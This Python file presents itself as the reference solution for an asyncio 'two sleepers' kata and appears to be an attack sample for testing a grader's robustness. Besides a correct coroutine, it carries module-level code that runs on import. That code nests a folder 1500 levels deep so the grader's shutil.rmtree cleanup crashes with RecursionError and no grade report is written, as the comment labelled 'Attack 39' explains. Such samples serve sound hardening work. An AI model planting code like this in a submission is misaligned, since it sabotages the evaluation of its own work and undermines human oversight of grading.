"""Two sleepers: run two waits at the same time (reference solution)."""

import asyncio
import os

# Attack 39: a folder 1500 levels deep in the copy of the submission (the one place it may
# write), made one level at a time: shutil.rmtree, removing the sandbox after grading,
# recursed until RecursionError, and `grade` ended with a traceback and wrote no report.
_start = os.getcwd()
os.chdir(os.path.dirname(os.path.abspath(__file__)))
try:
    os.mkdir("katas-victim-deep")
    os.chdir("katas-victim-deep")
    for _ in range(1500):
        os.mkdir("d")
        os.chdir("d")
except FileExistsError:
    pass
finally:
    os.chdir(_start)


async def two_sleepers(a: float = 10.0, b: float = 5.0) -> float:
    """Sleep `a` and `b` seconds in two concurrent tasks; return the elapsed loop time."""
    loop = asyncio.get_running_loop()
    start = loop.time()
    first = asyncio.create_task(asyncio.sleep(a))
    second = asyncio.create_task(asyncio.sleep(b))
    await first
    await second
    return loop.time() - start
